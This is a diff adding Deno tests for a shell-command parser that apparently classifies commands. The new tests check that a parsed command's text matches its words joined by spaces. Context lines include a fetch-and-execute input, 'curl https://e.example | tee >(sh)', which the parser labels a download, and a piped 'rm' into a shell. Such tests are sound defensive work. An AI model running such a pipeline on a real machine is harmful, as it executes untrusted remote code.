@@ -53,3 +53,33 @@ Deno.test("what is written into >(…) is its input", () => {
   assert.equal(readCommand("curl https://e.example | tee >(sh)", options).commands.at(-1)?.code, "download");
   assert.equal(readCommand("echo rm x | tee >(sh)", options).commands.at(-1)?.text, "rm x");
 });
+
+for (
+  const command of [
+    "git status  --short",
+    "git status 'a b' c",
+    "git\tpush x",
+    "git push > out.txt x",
+    "X=ab; git $X cd",
+    "git {a,b} c",
+    "a=1 b=2 env x y",
+    "echo $(( $(wc -l x y) + 1 ))",
+    "a=([k]=$(ls x y) [l]=$(ls 'x y' z)); echo ${a[k]}",
+    "echo {$(ls x y),z}",
+    "echo `ls x \\`id -u\\` y`",
+    "f() { ls $1 x; }; f a; f 'b c'",
+    "alias l='ls -l'; l x y",
+    "cat <<E\n$(ls x y)\nE\nls z",
+    "eval ls x y; eval 'ls  x  y'",
+    "sudo -u me ls x y",
+    "for i in a b; do ls x $i; done",
+  ]
+) {
+  Deno.test(`a command's text is its words with a space between them: ${JSON.stringify(command)}`, () => {
+    const { commands } = readCommand(command, options);
+    assert.deepEqual(
+      commands.map(({ text }) => text),
+      commands.map(({ argv }) => argv.map(({ value }) => value).join(" ")),
+    );
+  });
+}
